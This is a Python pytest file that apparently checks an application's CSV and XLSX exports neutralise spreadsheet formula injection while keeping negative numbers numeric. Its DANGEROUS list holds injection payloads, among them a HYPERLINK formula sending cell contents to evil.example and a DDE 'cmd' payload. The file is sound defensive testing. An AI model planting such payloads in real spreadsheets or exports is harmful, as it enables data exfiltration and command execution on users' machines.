"""Exports never hand a spreadsheet a formula: text that starts like one is written as text
(CSV: a leading `'`, XLSX: a string cell); numbers, negative ones too, stay numbers."""

import csv
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from tandem.accounts.models import Account
from tandem.core.exports import csv_value, write_export
from tandem.revenue.models import RevenueLine
from testsupport.builders import make_account, make_product, make_revenue_line

DANGEROUS = [
    '=HYPERLINK("http://evil.example/"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def accounts(org):
    made = [make_account(org.alice, name=name, city="=1+1") for name in DANGEROUS]
    make_account(org.alice, name="Plain GmbH", city="Köln")
    return made


@pytest.mark.parametrize("text", DANGEROUS)
def test_csv_prefixes_text_that_starts_like_a_formula(text):
    assert csv_value(text) == "'" + text


@pytest.mark.parametrize("value", [Decimal("-12.50"), -3, 0, Decimal("7")])
def test_csv_leaves_numbers_alone(value):
    assert csv_value(value) == str(value)


def test_csv_export_writes_formulas_as_text(accounts):
    stream = io.StringIO()
    write_export("accounts", Account.objects.all(), "csv", stream)
    rows = {row["id"]: row for row in csv.DictReader(io.StringIO(stream.getvalue()))}
    for account in accounts:
        row = rows[str(account.pk)]
        assert row["name"] == "'" + account.name
        assert row["city"] == "'=1+1"
    plain = Account.objects.get(name="Plain GmbH")
    assert rows[str(plain.pk)]["name"] == "Plain GmbH"
    assert rows[str(plain.pk)]["city"] == "Köln"
    assert "\n=HYPERLINK" not in stream.getvalue() and ",=" not in stream.getvalue()


def test_xlsx_export_writes_formulas_as_string_cells(accounts):
    stream = io.BytesIO()
    write_export("accounts", Account.objects.all(), "xlsx", stream)
    sheet = load_workbook(io.BytesIO(stream.getvalue())).active
    header = [cell.value for cell in sheet[1]]
    by_id = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
    for account in accounts:
        row = by_id[account.pk]
        name = row[header.index("name")]
        city = row[header.index("city")]
        # XML reads a carriage return back as a line feed
        assert (name.value, name.data_type) == (account.name.replace("\r", "\n"), "s")
        assert (city.value, city.data_type) == ("=1+1", "s")
    formulas = [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []


def test_negative_amounts_stay_numbers(org):
    account = make_account(org.alice, name="-Minus AG")
    product = make_product("CRD-1")
    make_revenue_line(account, product, amount=Decimal("-250.75"), quantity=Decimal("-1"))
    text = io.StringIO()
    write_export("revenue", RevenueLine.objects.all(), "csv", text)
    row = next(csv.DictReader(io.StringIO(text.getvalue())))
    assert (row["amount"], row["quantity"], row["account"]) == ("-250.75", "-1.000", "'-Minus AG")
    binary = io.BytesIO()
    write_export("revenue", RevenueLine.objects.all(), "xlsx", binary)
    sheet = load_workbook(io.BytesIO(binary.getvalue())).active
    header = [cell.value for cell in sheet[1]]
    amount = sheet.cell(row=2, column=header.index("amount") + 1)
    assert amount.data_type == "n" and amount.value == pytest.approx(-250.75)
    assert sheet.cell(row=2, column=header.index("account") + 1).value == "-Minus AG"
